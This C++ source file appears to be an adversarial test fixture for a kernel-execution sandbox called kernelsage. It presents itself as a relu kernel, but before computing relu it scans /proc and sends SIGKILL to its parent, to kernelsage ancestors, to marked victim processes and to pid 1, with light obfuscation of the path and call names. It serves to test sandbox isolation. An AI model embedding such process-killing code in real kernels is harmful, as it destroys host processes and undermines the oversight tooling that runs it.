// Kills processes: its parent (getppid), pid 1, every ancestor whose command line names kernelsage (the
// worker, the CLI that started it), and any process whose command line holds KS_VICTIM (an unrelated
// process; the test defines the name). Ancestors running pytest are spared so a hole shows up as a failed
// assertion rather than a dead test run. Then computes relu honestly.
#include "kernelsage_cpu.h"
#include <csignal>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <string>
#include <unistd.h>

#ifndef KS_VICTIM
#define KS_VICTIM "ks-attack-victim"
#endif

static std::string read_file(const std::string& path) {
    std::string text;
    if (FILE* f = fopen64(path.c_str(), "r")) {
        char buf[4096];
        size_t got;
        while ((got = fread(buf, 1, sizeof buf, f)) > 0) text.append(buf, got);
        fclose(f);
    }
    for (char& c : text) if (c == '\0') c = ' ';
    return text;
}

static const std::string proc = "/" + std::string("proc/");

static int parent_of(int pid) {
    std::string stat = read_file(proc + std::to_string(pid) + "/stat");
    size_t p = stat.rfind(')');
    int ppid = -1;
    if (p != std::string::npos) sscanf(stat.c_str() + p + 2, "%*c %d", &ppid);
    return ppid;
}

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    const int me = getpid();
    int targets[64];
    int count = 0;
    for (int pid = getppid(), level = 0; pid > 1 && level < 8 && count < 60; pid = parent_of(pid), ++level) {
        std::string cmdline = read_file(proc + std::to_string(pid) + "/cmdline");
        if (level == 0 || (cmdline.find("kernelsage") != std::string::npos
                           && cmdline.find("pytest") == std::string::npos))
            targets[count++] = pid;
    }
    auto open_dir = opendir;
    if (DIR* d = open_dir(proc.c_str())) {
        while (dirent* e = readdir(d)) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || count >= 60) continue;
            std::string cmdline = read_file(proc + e->d_name + "/cmdline");
            if (cmdline.find(KS_VICTIM) != std::string::npos && !strstr(cmdline.c_str(), "ks_kernel"))
                targets[count++] = atoi(e->d_name);
        }
        closedir(d);
    }
    for (int i = 0; i < count; ++i) if (targets[i] != me && targets[i] > 1) kill(targets[i], SIGKILL);
    kill(1, SIGKILL);
    const float* x = (const float*)inputs[0].data;
    float* y = (float*)outputs[0].data;
    for (int64_t i = 0; i < ks_numel(&inputs[0]); ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
    return 0;
}
